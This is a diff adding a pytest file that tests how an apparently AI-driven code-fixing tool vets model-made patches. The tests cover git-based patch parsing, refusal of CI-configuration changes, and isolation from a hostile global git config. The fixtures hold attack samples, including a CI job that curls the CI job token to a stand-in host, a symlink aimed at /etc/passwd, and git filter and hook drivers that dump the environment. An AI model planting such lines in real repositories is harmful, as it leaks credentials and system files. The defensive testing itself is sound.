@@ -1,0 +1,270 @@
+"""The patch is judged from what git stores, outside the sandbox, and git's regeneration is what goes on.
+
+Issue 12, findings 2, 4 (the review side) and 6: the review rules parsed the patch text themselves
+(a section after a hunk that git applies went unseen; `splitlines` broke a symlink target at `\\r`),
+a CI change was only flagged and a file pulled in by `include: local` not even that, and git ran
+with the worker's own environment and global config (a filter driver saw the forge token).
+"""
+
+from __future__ import annotations
+
+import os
+import stat
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.doubles.git_http import git, git_env, make_worktree
+from worker.ci_config import local_includes
+from worker.patch_evidence import PatchEvidence, PatchRefused, take_evidence
+from worker.repo_config import RepoConfig, refusal_reasons, review_flags
+
+CR_TARGET = "d\r/../../../../etc/passwd"
+
+
+def head(repo: Path) -> str:
+    return git("rev-parse", "HEAD", cwd=repo).stdout.strip()
+
+
+def sandbox_diff(repo: Path) -> str:
+    """What the sandbox hands over: `git add -A` and `git diff --cached --binary`, every byte kept."""
+    assert git("add", "-A", cwd=repo).returncode == 0
+    done = subprocess.run(
+        ["git", "diff", "--cached", "--binary", "HEAD"], cwd=repo, env=git_env(), capture_output=True, check=True
+    )
+    return done.stdout.decode("utf-8", "surrogateescape")
+
+
+def evidence(repo: Path, patch: str) -> PatchEvidence:
+    return take_evidence(repo, head(repo), patch, repo.parent / "scratch", max_bytes=1024 * 1024)
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    return make_worktree(
+        tmp_path / "repo",
+        {"calc.py": "x = 1\n", ".frogfix.yml": "test_command: pytest\n", "notes.txt": "a\nb\n"},
+    )
+
+
+# -- finding 2: git's reading, not ours -------------------------------------------------------
+
+SECOND_SECTION = """diff --git a/calc.py b/calc.py
+--- a/calc.py
++++ b/calc.py
+@@ -1 +1 @@
+-x = 1
++x = 2
+--- a/.frogfix.yml
++++ b/.frogfix.yml
+@@ -1 +1 @@
+-test_command: pytest
++test_command: "true"
+"""
+
+
+def test_a_plain_section_after_a_hunk_is_applied_by_git_and_judged(repo: Path) -> None:
+    changes = evidence(repo, SECOND_SECTION)
+    assert changes.paths == [".frogfix.yml", "calc.py"]  # git applied both sections
+    assert refusal_reasons(changes, RepoConfig()) == [
+        "changes FrogFix's own configuration .frogfix.yml (only people may change it)"
+    ]
+    assert "diff --git a/.frogfix.yml b/.frogfix.yml" in changes.patch  # and the stored patch says so plainly
+
+
+def test_a_symlink_target_with_a_carriage_return_is_judged_as_git_stores_it(repo: Path) -> None:
+    os.symlink(CR_TARGET, repo / "innocent")
+    patch = sandbox_diff(repo)  # a real `git diff`, as the model can make it in the sandbox
+    assert "+d\r/../../../../etc/passwd" in patch
+    changes = evidence(repo, patch)
+    [link] = changes.files
+    assert link.symlink and link.link_target == CR_TARGET and link.size == len(CR_TARGET)
+    assert refusal_reasons(changes, RepoConfig()) == [
+        f"adds symlink innocent pointing outside the repository ({CR_TARGET!r})"
+    ]
+
+
+def test_every_kind_of_change_is_read_from_gits_objects(repo: Path) -> None:
+    (repo / "calc.py").write_text("x = 2\n")
+    (repo / "calc.py").chmod(0o755)
+    (repo / "notes.txt").unlink()
+    (repo / "blob.bin").write_bytes(b"ok\x00\x01\x02")
+    os.symlink("calc.py", repo / "link")
+    changes = evidence(repo, sandbox_diff(repo))
+    got = {f.path: (f.status, f.old_mode, f.new_mode, f.added, f.removed, f.binary, f.size) for f in changes.files}
+    assert got == {
+        "blob.bin": ("added", "000000", "100644", 0, 0, True, 5),
+        "calc.py": ("modified", "100644", "100755", 1, 1, False, 6),
+        "link": ("added", "000000", "120000", 1, 0, False, 7),
+        "notes.txt": ("deleted", "100644", "000000", 0, 2, False, 0),
+    }
+    assert changes.diffstat() == [("blob.bin", 0, 0), ("calc.py", 1, 1), ("link", 1, 0), ("notes.txt", 0, 2)]
+    assert refusal_reasons(changes, RepoConfig()) == ["adds binary file blob.bin"]
+    # The regeneration is git's own, full index lines included, and rebuilds the very same tree.
+    assert "index 0000000000000000000000000000000000000000.." in changes.patch
+    assert "GIT binary patch" in changes.patch and "old mode 100644\nnew mode 100755" in changes.patch
+    assert evidence(repo, changes.patch).tree == changes.tree
+
+
+def test_the_repositorys_attributes_cannot_pass_a_binary_file_off_as_text(tmp_path: Path) -> None:
+    repo = make_worktree(tmp_path / "repo", {".gitattributes": "*.dat diff\n* -binary\n", "a.txt": "a\n"})
+    (repo / "blob.dat").write_bytes(b"MZ\x00\x01\x02")
+    (repo / ".gitattributes").write_text("*.dat diff\n* -binary\nblob.dat text\n")
+    changes = evidence(repo, sandbox_diff(repo))
+    assert [(f.path, f.binary) for f in changes.files] == [(".gitattributes", False), ("blob.dat", True)]
+    assert refusal_reasons(changes, RepoConfig()) == ["adds binary file blob.dat"]
+
+
+def test_a_patch_git_cannot_apply_is_refused_with_gits_reason(repo: Path) -> None:
+    stale = SECOND_SECTION.replace("-x = 1", "-x = 7")
+    with pytest.raises(PatchRefused, match=r"git cannot apply the patch to the base commit: .*calc\.py"):
+        evidence(repo, stale)
+
+
+def test_a_patch_whose_regeneration_is_too_large_is_refused(repo: Path) -> None:
+    (repo / "big.txt").write_text("line\n" * 1000)
+    with pytest.raises(PatchRefused, match=r"larger than 2048 bytes"):
+        take_evidence(repo, head(repo), sandbox_diff(repo), repo.parent / "s", max_bytes=2048)
+
+
+def test_nothing_is_written_into_the_users_checkout(repo: Path) -> None:
+    (repo / "calc.py").write_text("x = 3\n")
+    patch = sandbox_diff(repo)
+    git("reset", "-q", "--hard", cwd=repo)
+    before = sorted((str(p), p.read_bytes() if p.is_file() else b"") for p in (repo / ".git").rglob("*"))
+    changes = evidence(repo, patch)
+    after = sorted((str(p), p.read_bytes() if p.is_file() else b"") for p in (repo / ".git").rglob("*"))
+    # No object, index, ref or config of the checkout is added or changed (git may only freshen the
+    # mtime of an object it finds there, as it does for any alternate).
+    assert after == before
+    assert git("cat-file", "-e", changes.tree, cwd=repo).returncode != 0  # the tree lived in the private store
+    assert not (repo.parent / "scratch").exists() or not any((repo.parent / "scratch").iterdir())
+
+
+# -- finding 4, the review side: CI configuration ---------------------------------------------
+
+
+def test_ci_changes_are_refused_by_default_and_flagged_when_allowed(repo: Path) -> None:
+    (repo / ".github" / "workflows").mkdir(parents=True)
+    (repo / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
+    (repo / ".gitlab-ci.yml").write_text("steal:\n  script: curl -d @$CI_JOB_TOKEN evil\n")
+    (repo / "calc.py").write_text("x = 2\n")
+    changes = evidence(repo, sandbox_diff(repo))
+    assert refusal_reasons(changes, RepoConfig()) == [
+        "changes CI configuration .github/workflows/ci.yml (FROGFIX_ALLOW_CI_CHANGES is off)",
+        "changes CI configuration .gitlab-ci.yml (FROGFIX_ALLOW_CI_CHANGES is off)",
+    ]
+    assert refusal_reasons(changes, RepoConfig(), allow_ci=True) == []
+    assert review_flags(changes, RepoConfig()) == [
+        "changes CI configuration .github/workflows/ci.yml",
+        "changes CI configuration .gitlab-ci.yml",
+    ]
+
+
+GITLAB_CI = """include:
+  - local: /ci/build.yml
+  - /templates/*.yml
+  - https://example.com/remote.yml
+  - project: other/group
+    file: /shared.yml
+  - template: Auto-DevOps.gitlab-ci.yml
+build:
+  script: make
+"""
+
+
+def test_files_the_gitlab_ci_file_includes_locally_are_ci_configuration(tmp_path: Path) -> None:
+    repo = make_worktree(
+        tmp_path / "repo",
+        {
+            ".gitlab-ci.yml": GITLAB_CI,
+            "ci/build.yml": "include: ci/nested.yml\n",
+            "ci/nested.yml": "x: 1\n",
+            "templates/deploy.yml": "deploy: {script: ./deploy}\n",
+            "shared.yml": "not included from this project\n",
+            "scripts/run.yml": "run: {script: ./run}\n",
+        },
+    )
+    for name in ("ci/build.yml", "ci/nested.yml", "templates/deploy.yml", "shared.yml"):
+        (repo / name).write_text("pwned: {script: env}\n")
+    reasons = refusal_reasons(evidence(repo, sandbox_diff(repo)), RepoConfig())
+    assert reasons == [
+        f"changes CI configuration {p} (FROGFIX_ALLOW_CI_CHANGES is off)"
+        for p in ("ci/build.yml", "ci/nested.yml", "templates/deploy.yml")
+    ]
+    # An include the patch itself adds counts too (read from the patched tree), as does the CI file.
+    git("reset", "-q", "--hard", cwd=repo)
+    (repo / ".gitlab-ci.yml").write_text(GITLAB_CI.replace("include:\n", "include:\n  - local: scripts/run.yml\n"))
+    (repo / "scripts" / "run.yml").write_text("run: {script: env}\n")
+    changes = evidence(repo, sandbox_diff(repo))
+    assert [r.split(" (")[0] for r in refusal_reasons(changes, RepoConfig())] == [
+        "changes CI configuration .gitlab-ci.yml",
+        "changes CI configuration scripts/run.yml",
+    ]
+
+
+def test_local_includes_read_every_form_and_ignore_the_rest() -> None:
+    assert local_includes(GITLAB_CI.encode()) == ["ci/build.yml", "templates/*.yml"]
+    assert local_includes(b"include: /one.yml\n") == ["one.yml"]
+    assert local_includes(b"include: {local: two.yml}\n") == ["two.yml"]
+    assert local_includes(b"include: [\n") == [] and local_includes(b"- a\n") == []
+    assert local_includes(b"x: " + b"a" * 300_000) == []  # over the bound: not parsed
+    assert local_includes(b"[" * 20_000) == []  # nesting deeper than the parser goes
+
+
+# -- finding 6: no git filter, hook or driver of the worker's own config ----------------------
+
+HOOKS = (
+    "pre-commit", "post-commit", "post-checkout", "post-merge", "pre-push", "reference-transaction",
+    "post-index-change", "pre-auto-gc", "post-rewrite", "pre-applypatch", "post-applypatch", "applypatch-msg",
+    "prepare-commit-msg", "commit-msg", "push-to-checkout",
+)  # fmt: skip
+
+
+def hostile_git_config(folder: Path) -> tuple[Path, Path]:
+    """A global git config whose every driver and hook records that it ran, and with what environment."""
+    markers = folder / "markers"
+    markers.mkdir(parents=True)
+    driver = folder / "driver.sh"
+    body = 'if [ -n "$2" ] && [ -f "$2" ]; then cat "$2"; else cat; fi'
+    driver.write_text(f'#!/bin/sh\nenv > "{markers}/$1.$$"\n{body}\n')
+    driver.chmod(0o755)
+    hooks = folder / "hooks"
+    hooks.mkdir()
+    for name in HOOKS:
+        (hooks / name).write_text(f'#!/bin/sh\nenv > "{markers}/hook-{name}.$$"\n')
+        (hooks / name).chmod(stat.S_IRWXU)
+    config = folder / "gitconfig"
+    config.write_text(
+        f'[filter "evil"]\n\tclean = {driver} clean\n\tsmudge = {driver} smudge\n\trequired = true\n'
+        f'[diff "evil"]\n\ttextconv = {driver} textconv\n'
+        f"[diff]\n\texternal = {driver} external\n"
+        f"[core]\n\thooksPath = {hooks}\n\tfsmonitor = {driver} fsmonitor\n"
+        f"[uploadpack]\n\tpackObjectsHook = {driver} pack-objects\n"
+    )
+    return config, markers
+
+
+ATTRIBUTES = "* filter=evil diff=evil\n"
+
+
+@pytest.mark.bwrap
+def test_fix_never_runs_a_filter_or_hook_of_the_global_git_config(tmp_path: Path) -> None:
+    from tests.doubles.openai_server import ScriptedOpenAIServer, assistant, text_call
+    from tests.fix.sample_repo import make_sample_repo
+    from tests.fix.test_fix_command import run_fix
+
+    repo = make_sample_repo(tmp_path)
+    (repo / ".gitattributes").write_text(ATTRIBUTES)
+    for args in (("add", "-A"), ("commit", "-qm", "attributes")):
+        assert git(*args, cwd=repo).returncode == 0  # the test's own git: isolated, no driver runs here
+    config, markers = hostile_git_config(tmp_path / "host")
+    edit = text_call("Edit", file_path="calc.py", old_string="return a - b", new_string="return a + b")
+    script: list[Any] = [assistant(edit), assistant("Fixed add().")]
+    with ScriptedOpenAIServer(script) as server:
+        proc = run_fix(repo, tmp_path / "data", server.base_url, "--json", env_extra={"GIT_CONFIG_GLOBAL": str(config)})
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    assert '"status": "fixed"' in proc.stdout
+    assert sorted(p.name for p in markers.iterdir()) == []
